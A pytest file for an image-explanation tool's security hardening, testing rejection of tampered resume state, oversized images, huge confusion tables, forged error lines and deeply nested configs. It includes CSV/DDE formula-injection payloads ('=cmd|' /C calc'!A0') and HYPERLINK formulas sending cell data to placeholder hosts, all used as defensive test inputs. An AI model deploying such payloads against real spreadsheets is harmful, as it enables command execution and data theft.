"""The ninth attack (a review session's findings): a shared interrupted run's saved parts and
records taken as they were by --resume, pictures read back at any size, an unbounded confusion
table, spreadsheet formulas in the CSV files, and nesting that broke serialising a config."""

from __future__ import annotations

import csv
import io

import numpy as np
import pytest

from explain import render
from explain.channels import atlasviews
from explain.channels.atlas import AtlasState, ImageAtlas, MapAtlas
from explain.errors import ExplainError


def test_a_region_no_picture_holds_is_a_grey_tile_of_its_shape():
    """A crop whose image cannot be read was a grey array of the region's size (a shared
    state's 20,000 x 20,000 regions: 1.1 GiB each, all held until drawn)."""
    from explain.writers.atlaspages import _crop
    crop = _crop(None, "cat", 1.0, [0, 0, 20_000, 10_000, 0, 0, 1, 1])
    assert crop.rgb.shape == (atlasviews.TILE // 2, atlasviews.TILE, 3)
    assert (crop.rgb == 200).all() and crop.lines == ("cat", "(image not readable)")
    small = _crop(None, "cat", 1.0, [4, 4, 20, 12, 4, 4, 6, 6])
    assert small.rgb.shape == (8, 16, 3)  # a region smaller than a tile keeps its size


def test_a_long_caption_is_cut_without_measuring_it_per_character(monkeypatch):
    calls = []
    measure = render.text_width

    def counted(text, size):
        calls.append(len(text))
        return measure(text, size)
    monkeypatch.setattr(render, "text_width", counted)
    fitted = render.fitted("x" * 20_000, 9, 80)
    assert fitted.endswith("…") and measure(fitted, 9) <= 80 and len(fitted) > 5
    assert max(calls) <= 82 and len(calls) < 90  # a text of at most width + 1 characters
    assert render.fitted("cat", 9, 80) == "cat"


def _state_with_one_image() -> AtlasState:
    state = AtlasState(3, 2, top_k=1, crop=1, seed=0)
    state.add([ImageAtlas("cat", (32, 32), (4, 4), np.array([1.0, 2.0, 3.0]),
                          np.array([0, 5, 15], np.int32),
                          [MapAtlas("cat", "gradcam", None, np.array([0.5, 0.2, 0.1]),
                                    np.array([1, 2, 3], np.int32))])])
    return state


@pytest.mark.parametrize("change, why", [
    (lambda s: s.names.update({next(iter(s.names)): "dog"}), "not its key's"),
    (lambda s: s.covered.add("=cmd|' /C calc'!A0"), "image id \"=cmd|' /C calc'!A0\""),
    (lambda s: s.activation.boxes.__setitem__((0, 0, 2), 20_000), "a region outside any input"),
    (lambda s: s.activation.boxes.__setitem__((0, 0, 0), 40), "a region outside any input"),
    (lambda s: s.activation.keys.__setitem__((0, 1), 12345), "a heap key without its image"),
    (lambda s: s.contribution.update({("m0", "gradcam"): s.contribution[("cat", "gradcam")]}),
     "a class, method or k that is not this run's"),
])
def test_a_saved_state_must_be_one_this_run_makes(change, why):
    state = _state_with_one_image()
    again = AtlasState.from_bytes(state.to_bytes(), "s.zip", state, classes={"cat", "dog"},
                                  methods={"gradcam"})
    assert again.to_bytes() == state.to_bytes()
    change(state)
    with pytest.raises(ExplainError) as caught:
        AtlasState.from_bytes(state.to_bytes(), "s.zip", state, classes={"cat", "dog"},
                              methods={"gradcam"})
    assert str(caught.value).startswith("s.zip: not an atlas state of this explain version (")
    assert why in str(caught.value), str(caught.value)


def test_a_part_of_an_image_larger_than_any_input_is_refused():
    data = ImageAtlas("cat", (40_000, 32), (4, 4), np.ones(3), np.zeros(3, np.int32)).to_bytes()
    with pytest.raises(ExplainError, match=r"^p.zip: not an atlas part .*size 40000 x 32"):
        ImageAtlas.from_bytes(data, "p.zip")


@pytest.mark.parametrize("cell, written", [
    ('=HYPERLINK("https://example.org/?"&A2,"open")', '\'=HYPERLINK("https://example.org/?"&A2,"open")'),
    ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
    ("+1+1", "'+1+1"), ("-1+cmd|x", "'-1+cmd|x"), ("\t=1", "'\t=1"), ("\r=1", "\\r=1"),
    ("a\rb\nc", "a\\rb\nc"),
    ("-0.5", "-0.5"), ("+3", "+3"), ("-inf", "-inf"), ("cat", "cat"), ("a=b", "a=b"),
    ("x;=1+cmd|' /C calc'!A0", "x;'=1+cmd|' /C calc'!A0"), ("a;@b;-0.5;c", "a;'@b;-0.5;c"),
    ("=a;=b", "'=a;'=b"), ("a;b", "a;b"),
    (-0.5, -0.5), (None, None), (True, True),
])
def test_a_csv_cell_never_starts_a_formula(cell, written):
    from explain.names import inert_cell
    from explain.outputs import RunFolder
    assert inert_cell(cell) == written
    rows = list(csv.reader(io.StringIO(RunFolder.csv_bytes([{cell: cell}]).decode(), newline="")))
    assert rows == [[str(written) if written is not None else ""]] * 2


def test_a_header_made_inert_keeps_its_column_and_a_str_subclass_is_checked():
    from explain.outputs import RunFolder
    assert RunFolder.csv_bytes([{"-x": 1, "'-x": 2}]) == b"'-x_,'-x\n1,2\n"
    assert RunFolder.csv_bytes([{"layer": np.str_("=1+1"), "v": 1}]) == b"layer,v\n'=1+1,1\n"


def test_an_os_error_of_another_rank_stays_on_its_line():
    """torchrun: another rank's OSError was relayed with its file name raw, and a name
    holding a line break and two spaces printed a forged indented line."""
    from explain.distributed import describe
    from explain.errors import relayed
    error = FileNotFoundError(2, "No such file or directory", "cat\n  explain: error: x.jpg")
    assert relayed(describe(error), " (on rank 1 of 2)").lines() == [
        "cat\\n  explain: error: x.jpg: No such file or directory (on rank 1 of 2)"]


def _named_model_config(folder, stem: str, names: list[str]):
    """A whole pickled conv -> ReLU -> pool -> flatten -> linear network whose five modules
    carry ``names`` (what a pickle restores, unchecked by torch), and a config running it
    with the sanity checks: the config's path."""
    import collections

    import torch
    from torch import nn

    from conftest import IMAGES, write_config
    net = nn.Sequential().eval()
    net._modules = collections.OrderedDict(zip(names, [
        nn.Conv2d(3, 4, 3, padding=1), nn.ReLU(), nn.AdaptiveAvgPool2d(1), nn.Flatten(),
        nn.Linear(4, 2)]))
    torch.save(net, folder / f"{stem}.pth")
    return write_config(folder, stem, model={"file": f"{stem}.pth"},
                        images=[str(IMAGES / "cat.jpg")], preprocess={"size": [32, 32]},
                        target_layers=["auto"], methods=["gradcam"], metrics=[],
                        sanity={"enabled": True, "images": 1})


def test_a_model_files_layer_names_reach_the_sanity_table_as_text(tmp_path, capsys):
    """A whole pickled network (loaded without trust) whose modules are named as formulas:
    sanity.csv's layer column held them as they were."""
    from helpers import cli
    names = ['=HYPERLINK("https://example/"&A1,"click")', "relu", "pool", "flat",
             "@SUM(1+1)*cmd|' /C calc'!A0"]
    code, err, _ = cli(capsys, _named_model_config(tmp_path, "shared", names), "--quiet")
    assert code == 0, err
    table = list(csv.DictReader((tmp_path / "results/shared/sanity/sanity.csv").open()))
    layers = {row["layer"] for row in table}
    assert {"'" + names[0], "'" + names[4]} <= layers, layers
    cells = [cell for row in table for cell in row.values()]
    assert not any(cell[:1] in ("=", "+", "-", "@") and not _number(cell) for cell in cells)


def _number(text: str) -> bool:
    try:
        float(text)
        return True
    except ValueError:
        return False


def test_resume_keeps_a_maps_record_only_under_the_file_names_its_run_gives():
    """An item file's Guided Grad-CAM file was free text: a formula reached summary.csv."""
    from explain.recordfiles import kept_problem
    from explain.results import ImageEntry, MapRecord

    def entry(guided):
        rec = MapRecord(class_name="cat", method="gradcam", peak_x=0, peak_y=0, peak_value=1,
                        mass_left=0.5, mass_right=0.5, mass_top=0.5, mass_bottom=0.5,
                        file="cams/gradcam/a__cat.png", guided_file=guided)
        return ImageEntry(id="a", path="a.jpg", input_size=[8, 8], probabilities={"cat": 1.0},
                          predicted="cat", cams=[rec])
    for fine in (None, "guided_cam/gradcam/a__cat.png", "guided_cam/gradcam/a__cat.jpg"):
        assert kept_problem(entry(fine), ["gradcam"], {"cat"}, ".png") is None
    for made_up in ('=HYPERLINK("x")', "guided_cam/gradcam/b__cat.png", "cams/gradcam/a__cat.png"):
        assert kept_problem(entry(made_up), ["gradcam"], {"cat"}, ".png") == (
            f"Guided Grad-CAM file {made_up!r}, expected 'guided_cam/gradcam/a__cat.png'")


# ---- pictures read back at the size their records give ---------------------------------------

@pytest.fixture(scope="module")
def finished(tmp_path_factory):
    """A finished run of the small AlexNet at 64 x 64 (cat and dog photos, GradCAM and
    LayerCAM): (its config, its folder)."""
    import torch

    from conftest import IMAGES, make_small_alexnet, write_config
    from explain.config import load_config
    from explain.runner import RunOptions, run
    tmp = tmp_path_factory.mktemp("attack9")
    torch.save(make_small_alexnet(), tmp / "small.pth")
    cfg = write_config(tmp, "exp", model={"file": str(tmp / "small.pth")},
                       target_layers=["features.10"], preprocess={"size": [64, 64]},
                       images=[str(IMAGES / "cat.jpg"), str(IMAGES / "dog.jpg")],
                       methods=["gradcam", "layercam"], metrics=[],
                       output={"save_arrays": True})
    run(load_config(cfg), RunOptions(progress=False, log=lambda _: None))
    return cfg, tmp / "results" / "exp"


def _copy_with_a_wrong_sized_overlay(finished, tmp_path):
    import shutil

    import cv2
    copy = tmp_path / "results" / "exp"
    shutil.copytree(finished[1], copy)
    ok, png = cv2.imencode(".png", np.zeros((80, 100, 3), np.uint8))
    (copy / "cams/gradcam/cat__cat.png").write_bytes(png.tobytes())
    return copy


def test_the_notebook_shows_only_pictures_of_their_records_size(finished, tmp_path):
    """A shared folder's overlays of 2**27 pixels over a 32 x 32 input took `show` 31 s and
    5.2 GB: a picture must be its image's input size; what a figure holds is shrunk."""
    import explain
    from explain.api import display
    copy = _copy_with_a_wrong_sized_overlay(finished, tmp_path)
    loaded = explain.load(copy)
    with pytest.raises(ExplainError) as caught:
        loaded.show("cat")
    assert str(caught.value) == (
        f"{copy / 'cams/gradcam/cat__cat.png'}: missing from the run folder, or not a picture "
        f"explain wrote (unreadable, or not 64 x 64 pixels, the image's input size)")
    assert loaded.picture("cat", "cat", "layercam").shape == (64, 64, 3)
    assert loaded.photo("dog").shape == (64, 64, 3)
    big = np.zeros((2000, 1000, 3), np.uint8)
    assert display.shown(big).shape == (512, 256, 3) and display.shown(big[:64]) is not None
    assert display.shown(big[:300, :400]).shape == (300, 400, 3)


def test_resume_reads_back_only_overlays_of_their_records_size(finished, tmp_path, capsys):
    """--resume's class panels decoded a kept overlay at any size up to 64 Mpx (four shared
    196 KB overlays: 9 s and 1.9 GB more)."""
    from helpers import refused
    copy = _copy_with_a_wrong_sized_overlay(finished, tmp_path)
    (copy / "summary.json").unlink()
    (copy / "items/dog.json").unlink()
    refused(capsys, finished[0], "--resume", "--out", tmp_path / "results", "--quiet",
            needles=[f"{copy / 'cams/gradcam/cat__cat.png'}: the map picture is missing, "
                     f"unreadable or not 64 x 64 pixels (its image's input size); the run "
                     f"folder is damaged"])


def test_a_run_shows_an_image_without_maps_in_one_line(finished, tmp_path):
    import json
    import shutil

    import explain
    copy = tmp_path / "results" / "exp"
    shutil.copytree(finished[1], copy)
    data = json.loads((copy / "summary.json").read_text())
    data["images"][1]["cams"] = []
    (copy / "summary.json").write_text(json.dumps(data))
    with pytest.raises(ExplainError, match=r"image 'dog' has no maps to show$"):
        explain.load(copy).show("dog")


def test_diff_of_a_record_at_the_edge_of_float_prints_no_numpy_warning(finished, tmp_path,
                                                                     capsys):
    import json
    import shutil
    import warnings

    from helpers import cli
    copy = tmp_path / "results" / "exp"
    shutil.copytree(finished[1], copy)
    data = json.loads((copy / "summary.json").read_text())
    for entry in data["images"]:  # two maps of a method and class: their mean overflows
        for rec in entry["cams"]:
            rec["logit"] = 1e308
    (copy / "summary.json").write_text(json.dumps(data))
    with warnings.catch_warnings():
        warnings.simplefilter("error")
        code, err, _ = cli(capsys, "diff", finished[1], copy, "--out", tmp_path / "diffs")
    assert code == 0 and "Warning" not in err, err


@pytest.mark.parametrize("classes, confusion, says", [
    (["cat", "dog"], [[1, 0], [1, 0]], None),
    (["dog", "cat"], [[1, 0], [1, 0]], "confusion classes that are not its classes in their order"),
    ([f"c{k}" for k in range(3)], [[0] * 3] * 3, "confusion classes that are not its classes"),
    (["cat", "cat"], [[1, 0], [1, 0]], "confusion classes that are not its classes in their order"),
])
def test_a_summarys_confusion_table_must_be_of_its_runs_classes(finished, tmp_path, capsys,
                                                              classes, confusion, says):
    """A shared summary.json's 4,000 x 4,000 confusion table (53 KB zipped) took the report
    3.4 GB: its classes must be the run's, in the config's order."""
    import json
    import shutil

    from helpers import cli, refused
    copy = tmp_path / "results" / "exp"
    shutil.copytree(finished[1], copy)
    data = json.loads((copy / "summary.json").read_text())
    data["dataset"] = {"labelled": 2, "unlabelled": 0, "correct": 1, "classes": classes,
                       "confusion": confusion}
    for entry in data["images"]:
        entry["label"] = "cat"
    (copy / "summary.json").write_text(json.dumps(data))
    if says is None:
        code, err, _ = cli(capsys, "report", copy)
        assert code == 0, err
        html = " ".join((copy / "report.html").read_text().split())
        assert '<tr><th>dog</th><td class="off">1</td><td class="diag">0</td></tr>' in html
    else:
        refused(capsys, "report", copy, needles=[f"{copy / 'summary.json'}: dataset: {says}",
                                                 "the run folder is damaged"])


def test_model_arguments_nested_deeper_than_a_model_takes_are_refused(finished, tmp_path,
                                                                     capsys):
    """300 levels of arch_args in a shared summary.json passed, then broke serialising the
    config (a 36-line traceback from explain diff and the notebook API)."""
    import json
    import shutil

    from conftest import write_config
    from helpers import refused
    from explain.config.sections import MAX_ARGS_DEPTH
    copy = tmp_path / "results" / "exp"
    shutil.copytree(finished[1], copy)
    data = json.loads((copy / "summary.json").read_text())
    nested: object = 1
    for _ in range(300):
        nested = {"a": nested}
    data["config"]["model"]["arch_args"] = {"x": nested}
    (copy / "summary.json").write_text(json.dumps(data))
    says = f"config.model.arch_args: Value error, nested more than {MAX_ARGS_DEPTH} levels deep"
    refused(capsys, "diff", finished[1], copy, "--out", tmp_path / "diffs", needles=[says])
    fine: object = [1]
    for _ in range(MAX_ARGS_DEPTH - 2):
        fine = {"a": fine}
    path = write_config(tmp_path, "deep", model={"builder": "torchvision.models.resnet18",
                                                 "builder_args": {"x": fine}},
                        target_layers=["layer4"])
    from explain.config import load_config
    assert load_config(path).model.builder_args == {"x": fine}


@pytest.mark.parametrize("name", ["a.b", ""])
def test_a_model_file_with_module_names_torch_never_gives_is_one_line(tmp_path, capsys, name):
    """A pickled network whose module is named 'a.b' loaded, then its sanity checks' copy
    failed in torch's load_state_dict: a raw traceback."""
    from helpers import refused
    path = _named_model_config(tmp_path, "odd", [name, "relu", "pool", "flat", "fc"])
    refused(capsys, path, "--quiet", needles=[
        f"{tmp_path / 'odd.pth'}: refused to load: the model it holds is not a usable model: its "
        f"module 'model' names an entry of _modules {name!r}, a name torch never gives"])
